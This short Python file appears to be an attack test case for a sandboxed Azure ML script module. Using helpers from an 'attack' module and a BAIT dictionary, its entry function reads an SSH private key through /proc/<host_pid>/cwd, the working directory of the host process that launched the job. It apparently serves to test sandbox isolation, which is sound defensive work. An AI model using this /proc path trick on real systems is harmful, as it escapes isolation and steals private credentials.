"""Reads the ssh key through the working directory of the process that ordered the job."""

import os

from attack import BAIT, attack, read


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return read(f"/proc/{BAIT['host_pid']}/cwd/{os.path.relpath(BAIT['ssh_key'], BAIT['host_folder'])}")
